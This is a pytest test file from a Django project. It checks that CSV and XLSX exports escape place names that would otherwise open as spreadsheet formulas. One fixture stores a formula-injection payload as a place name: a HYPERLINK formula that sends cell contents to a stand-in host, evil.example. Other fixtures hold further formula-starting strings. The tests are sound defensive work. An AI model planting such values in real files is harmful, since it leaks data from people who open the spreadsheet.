"""Attack: a name that starts a spreadsheet formula (``=``, ``+``, ``-``, ``@``, tab, CR)
must arrive in every CSV and XLSX as text, never as a live formula (issue 21, item 4)."""

import csv
import io

import openpyxl
import pytest

from geo.models import AdminUnit
from monitoring.exports.tables import cell_safe
from tests import export_data

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
STARTS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def world():
    data = export_data.small_province()
    place = data["in_a"]
    place.name = EVIL
    place.save()
    return data


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


@pytest.mark.parametrize("value", STARTS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert cell_safe(value) == "'" + value
    assert cell_safe(12) == 12
    assert cell_safe(-3.5) == -3.5
    assert cell_safe("Xã A-1") == "Xã A-1"


@pytest.mark.parametrize(
    "url",
    [
        "/exports/establishments.csv",
        "/maps/establishments/export.csv",
        "/maps/establishments/visits/?format=csv",
    ],
)
def test_no_csv_holds_the_formula_unescaped(admin_client, world, url):
    response = admin_client.get(url)
    assert response.status_code == 200
    cells = csv_cells(response)
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


@pytest.mark.parametrize(
    "url",
    [
        "/exports/establishments.xlsx",
        "/maps/establishments/export.xlsx",
        "/maps/establishments/visits/?format=xlsx",
    ],
)
def test_no_xlsx_holds_a_live_formula(admin_client, world, url):
    response = admin_client.get(url)
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert "'" + EVIL in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith("=")]


def test_the_outreach_plan_table_goes_through_the_same_writer(admin_client, demo_province):
    first = csv_cells(admin_client.get("/maps/planning/outreach.csv"))[12]  # the first row's unit code
    AdminUnit.objects.filter(code=first).update(name="@SUM(A1:A9)")
    response = admin_client.get("/maps/planning/outreach.csv")
    assert response.status_code == 200
    cells = csv_cells(response)
    assert "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
